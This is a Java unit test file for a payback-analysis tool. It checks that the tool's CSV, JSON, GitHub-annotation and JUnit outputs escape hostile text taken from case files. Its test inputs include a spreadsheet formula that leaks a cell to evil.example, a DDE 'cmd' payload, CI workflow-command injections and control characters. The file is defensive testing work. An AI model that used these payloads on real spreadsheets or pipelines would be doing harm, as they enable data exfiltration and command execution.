package dk.payback.format;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dk.payback.calc.Analysis;
import dk.payback.calc.Discounting;
import dk.payback.calc.Scenario;
import dk.payback.check.CheckReport;
import dk.payback.check.Checker;
import dk.payback.model.Amounts;
import dk.payback.model.Area;
import dk.payback.model.CaseSet;
import dk.payback.model.Diagnostic;
import dk.payback.model.Line;
import dk.payback.model.Location;
import dk.payback.model.Origin;
import dk.payback.model.Portfolio;
import dk.payback.model.PortfolioRow;
import dk.payback.model.PortfolioTotal;
import dk.payback.model.Proposal;
import dk.payback.model.ProposalType;
import dk.payback.model.Risk;
import dk.payback.model.SourceRef;
import dk.payback.model.Stated;
import dk.payback.view.Document;
import dk.payback.view.Documents;
import dk.payback.view.FindingsView;
import dk.payback.view.Lang;
import dk.payback.view.OverviewView;
import dk.payback.view.ProposalView;
import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import javax.xml.parsers.DocumentBuilderFactory;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.w3c.dom.Element;
import org.w3c.dom.NodeList;

/**
 * Texts of a case file that try to become a formula in a spreadsheet, a workflow command in a CI
 * log, markup in a test report or a broken JSON document: each goes, as a proposal's ID, title,
 * fund, source, line text, file name, and as the overview's title, row ID and total label, through
 * every view in CSV (both dialects) and JSON, and through the findings in GitHub and JUnit, verbose
 * or not.
 */
class DataFormatsEscapingTest {

  static final List<String> HOSTILE =
      List.of(
          "=HYPERLINK(\"http://evil.example/?\"&A1,\"Klik\")",
          "@SUM(1+1)*cmd|' /C calc'!A0",
          "+1",
          "-1 text",
          "\tTAB først",
          "\rCR først",
          "I ALT\n::warning::INJECTED",
          "::error::x",
          " \u00A0::error::efter blanke",
          "a ##[error]gammel syntaks",
          "styretegn\u0000\u0007\u001b[31m\u007f\u0085\uFFFE slut",
          "\u202Eslavt esrever",
          "100% a:b,c;d\"e'f<g>&h");

  static Stream<Arguments> hostile() {
    return HOSTILE.stream().map(Arguments::of);
  }

  /**
   * One investment and one innovation proposal, each carrying the text, with stated figures that do
   * not balance.
   */
  static CaseSet cases(String h) {
    Proposal investment =
        new Proposal(
            h,
            ProposalType.INVESTMENT,
            h,
            h,
            h,
            Risk.HIGH,
            new SourceRef(h, 7),
            List.of(2018, 2019, 2020),
            List.of(new Line(h, Area.SERVICE, Amounts.of(Map.of(2019, -6000L, 2020, -6000L)))),
            List.of(new Line(h, Area.CAPITAL, Amounts.of(Map.of(2018, 4000L)))),
            new Stated(Amounts.of(Map.of(2019, -6001L)), Amounts.empty(), Amounts.empty(), 3),
            null,
            null,
            List.of(h),
            new Origin(
                h + ".yaml",
                Map.of("stated.permanent_total.2019", new Location(h + ".yaml", 4, 5))));
    Proposal innovation =
        new Proposal(
            "XX02",
            ProposalType.INNOVATION,
            h,
            null,
            null,
            null,
            null,
            List.of(2018, 2019),
            List.of(),
            List.of(new Line(h, null, Amounts.of(Map.of(2018, 100L)))),
            Stated.none(),
            null,
            null,
            List.of(),
            new Origin("cases/XX02.yaml", Map.of()));
    Portfolio portfolio =
        new Portfolio(
            h,
            new SourceRef(h, 1),
            2018,
            2020,
            List.of(2019, 2020),
            List.of(h),
            List.of(
                new PortfolioRow(1, h, 3, 4000, Amounts.of(Map.of(2019, -6000L, 2020, -5999L))),
                new PortfolioRow(2, h + "X", null, 0, Amounts.empty()),
                new PortfolioRow(3, "XX02", null, 100, Amounts.empty())),
            new PortfolioTotal(h, 4001, Amounts.of(Map.of(2019, -6000L, 2020, -6000L))),
            new PortfolioTotal(h, 100, Amounts.empty()),
            List.of(),
            new Origin(h + "/portfolio.yaml", Map.of()));
    return new CaseSet(List.of(investment, innovation), portfolio);
  }

  /** Every document a command makes, in both languages: every view, under a scenario and not. */
  static List<Document> documents(String h) {
    Analysis analysis = Analysis.of(cases(h));
    CheckReport checks = Checker.check(analysis, 0);
    List<Document> all = new ArrayList<>();
    for (Lang lang : Lang.values()) {
      all.add(Documents.report(analysis, Scenario.BASE, Discounting.DEFAULT, checks, lang));
      all.add(Documents.report(analysis, Scenario.delayed(1), Discounting.DEFAULT, checks, lang));
      all.add(Documents.summary(analysis, Scenario.BASE, null, lang));
      all.add(Documents.show(analysis, analysis.overview().proposals(), Scenario.BASE, null, lang));
      all.add(
          Documents.sensitivity(
              analysis, analysis.overview().proposals(), Discounting.DEFAULT, lang));
      all.addAll(checkDocuments(h, lang));
    }
    return all;
  }

  static List<Document> checkDocuments(String h, Lang lang) {
    CheckReport checks = Checker.check(Analysis.of(cases(h)), 0);
    assertThat(checks.balances()).as("the case must have findings").isFalse();
    Diagnostic error = new Diagnostic(new Location(h + ".yaml", 2, 3), h, h);
    return List.of(
        Documents.check(checks, false, lang),
        Documents.check(checks, true, lang),
        Documents.invalidCheck(List.of(error), 1, 0, lang));
  }

  @ParameterizedTest
  @MethodSource("hostile")
  void csvWritesNoFormulaAndKeepsEveryRecordWhole(String h) {
    for (CsvDialect dialect : CsvDialect.values()) {
      for (Document d : documents(h)) {
        String csv = new CsvFormat(dialect).text(d);
        List<List<String>> records = parse(csv, dialect.separator);
        assertThat(records.get(0)).containsExactlyElementsOf(CsvFormat.COLUMNS);
        for (List<String> r : records.subList(1, records.size())) {
          assertThat(r).as("%s", r).hasSize(8);
          for (int column : new int[] {0, 1, 2, 4, 5}) {
            String text = r.get(column);
            assertThat(text.isEmpty() || "=+-@\t\r".indexOf(text.charAt(0)) < 0)
                .as("text %s of %s", text, r)
                .isTrue();
          }
          for (int column : new int[] {3, 6, 7}) {
            assertThat(r.get(column)).as("number in %s", r).matches("-?[0-9]*");
          }
        }
        if (d.views().get(0) instanceof OverviewView || d.views().get(0) instanceof ProposalView) {
          // The hostile title, neutralised (control characters shown as escapes) but whole.
          String shown = CsvFormat.text(h);
          assertThat(shown).doesNotContainPattern("[\\x00-\\x08\\x0b\\x0c\\x0e-\\x1f\\x7f-\\x9f]");
          assertThat(records).anySatisfy(r -> assertThat(r.get(4)).isEqualTo(shown));
        }
      }
      String report = new CsvFormat(dialect).text(documents(h).get(0));
      assertThat(parse(report, dialect.separator))
          .anySatisfy(
              r -> {
                assertThat(r.get(2)).isEqualTo("permanent");
                assertThat(r.get(7)).isEqualTo("-6000");
              });
    }
  }

  @ParameterizedTest
  @MethodSource("hostile")
  void jsonCarriesEveryTextAsAValue(String h) throws Exception {
    ObjectMapper json = new ObjectMapper();
    for (Document d : documents(h)) {
      String out = new JsonFormat().text(d);
      assertThat(out.chars().filter(c -> c < 0x20 && c != '\n'))
          .as("raw control characters")
          .isEmpty();
      JsonNode root = json.readTree(out);
      if (root.has("report")) {
        if (!root.get("proposals").isEmpty()) {
          assertThat(root.at("/proposals/0/title").asText()).isEqualTo(h);
          assertThat(root.at("/proposals/0/permanent/0/text").asText()).isEqualTo(h);
        }
        if (!root.get("overview").isNull()) {
          assertThat(root.at("/overview/title").asText()).isEqualTo(h);
        }
      } else if (root.get("outcome").asText().equals("invalid")) {
        assertThat(root.at("/input_errors/0/message").asText()).isEqualTo(h);
      } else {
        assertThat(root.get("findings"))
            .anySatisfy(f -> assertThat(f.get("subject").asText()).isEqualTo(h));
      }
    }
  }

  @ParameterizedTest
  @MethodSource("hostile")
  void githubPrintsNoLineThatIsACommandOfTheInput(String h) {
    for (Lang lang : Lang.values()) {
      for (Document d : checkDocuments(h, lang)) {
        String out = new GithubFormat().text(d);
        FindingsView view = (FindingsView) d.views().get(0);
        long annotations =
            view.errors().size()
                + view.warnings().size()
                + view.items().stream()
                    .filter(
                        i ->
                            i.isFinding()
                                || (view.verbose()
                                    && i.result().status()
                                        == dk.payback.check.Status.WITHIN_TOLERANCE))
                    .count();
        long plain =
            view.verbose()
                ? view.items().stream()
                    .filter(i -> i.result().status() == dk.payback.check.Status.PASS)
                    .count()
                : 0;
        List<String> lines = out.lines().toList();
        assertThat(out)
            .endsWith("\n")
            .doesNotContain("\r")
            .doesNotContain("##[")
            .doesNotContain("\u202E");
        assertThat(lines).hasSize((int) (annotations + plain + 1));
        assertThat(
                lines.stream()
                    .filter(
                        l ->
                            l.startsWith("::error file=")
                                || l.startsWith("::notice file=")
                                || l.startsWith("::warning file=")))
            .hasSize((int) annotations);
        for (String line : lines) {
          assertThat(line.chars().filter(c -> Character.isISOControl(c) && c != '\t'))
              .as(line)
              .isEmpty();
          boolean annotation =
              line.startsWith("::error file=")
                  || line.startsWith("::notice file=")
                  || line.startsWith("::warning file=");
          if (annotation) {
            // The properties end at the first "::"; none of the input can end them sooner.
            String properties = line.substring(2, line.indexOf("::", 2));
            assertThat(properties)
                .matches("(error|notice|warning) file=[^:,]*,line=[0-9]+,col=[0-9]+,title=[^:,]*");
          } else if (line.equals(lines.get(lines.size() - 1))) {
            // The count line, the format's own unlocated notice; no input text is in it.
            assertThat(line).isEqualTo("::notice title=payback check::" + view.count());
          } else {
            assertThat(line.replaceFirst("^[\\s\\u00A0]+", "")).as(line).doesNotStartWith("::");
          }
        }
      }
    }
  }

  @ParameterizedTest
  @MethodSource("hostile")
  void junitIsWellFormedWithTheTextsXmlCanCarry(String h) throws Exception {
    for (Lang lang : Lang.values()) {
      for (Document d : checkDocuments(h, lang)) {
        String xml = new JunitFormat().text(d);
        DocumentBuilderFactory f = DocumentBuilderFactory.newInstance();
        f.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true);
        org.w3c.dom.Document doc =
            f.newDocumentBuilder()
                .parse(new ByteArrayInputStream(xml.getBytes(StandardCharsets.UTF_8)));
        FindingsView view = (FindingsView) d.views().get(0);
        NodeList cases = doc.getElementsByTagName("testcase");
        assertThat(cases.getLength())
            .isEqualTo(
                view.invalid()
                    ? view.errors().size()
                    : view.items().size() + view.warnings().size());
        String carried =
            h.codePoints()
                .filter(
                    c ->
                        c == '\t'
                            || c == '\n'
                            || c == '\r'
                            || (c >= 0x20 && c <= 0xD7FF)
                            || (c >= 0xE000 && c <= 0xFFFD))
                .collect(StringBuilder::new, StringBuilder::appendCodePoint, StringBuilder::append)
                .toString();
        NodeList suites = doc.getElementsByTagName("testsuite");
        List<String> names = new ArrayList<>();
        for (int i = 0; i < suites.getLength(); i++) {
          names.add(((Element) suites.item(i)).getAttribute("name"));
        }
        assertThat(names).contains(carried + ".yaml");
      }
    }
  }

  @ParameterizedTest
  @MethodSource("hostile")
  void githubAndJunitHaveALayoutForTheFindingsAlone(String h) {
    Document report = documents(h).get(0);
    assertThatThrownBy(() -> new GithubFormat().text(report))
        .isInstanceOf(Format.Unsupported.class);
    assertThatThrownBy(() -> new JunitFormat().text(report)).isInstanceOf(Format.Unsupported.class);
  }

  /** RFC 4180, strictly: CRLF after every record, quotes only around a whole field. */
  static List<List<String>> parse(String csv, char separator) {
    if (!csv.isEmpty() && csv.charAt(0) == '\uFEFF') {
      csv = csv.substring(1);
    }
    List<List<String>> records = new ArrayList<>();
    List<String> record = new ArrayList<>();
    StringBuilder field = new StringBuilder();
    int i = 0;
    while (i < csv.length()) {
      if (csv.charAt(i) == '"') {
        i++;
        while (true) {
          char c = csv.charAt(i++);
          if (c == '"') {
            if (i < csv.length() && csv.charAt(i) == '"') {
              field.append('"');
              i++;
            } else {
              break;
            }
          } else {
            field.append(c);
          }
        }
      }
      char c = csv.charAt(i);
      if (c == separator) {
        record.add(field.toString());
        field.setLength(0);
        i++;
      } else if (c == '\r') {
        assertThat(csv.charAt(i + 1)).as("CRLF at %d", i).isEqualTo('\n');
        record.add(field.toString());
        field.setLength(0);
        records.add(record);
        record = new ArrayList<>();
        i += 2;
      } else {
        assertThat(c).as("a bare quote, CR or LF at %d", i).isNotIn('"', '\n');
        field.append(c);
        i++;
      }
    }
    assertThat(record).as("the last record ends with CRLF").isEmpty();
    return records;
  }
}
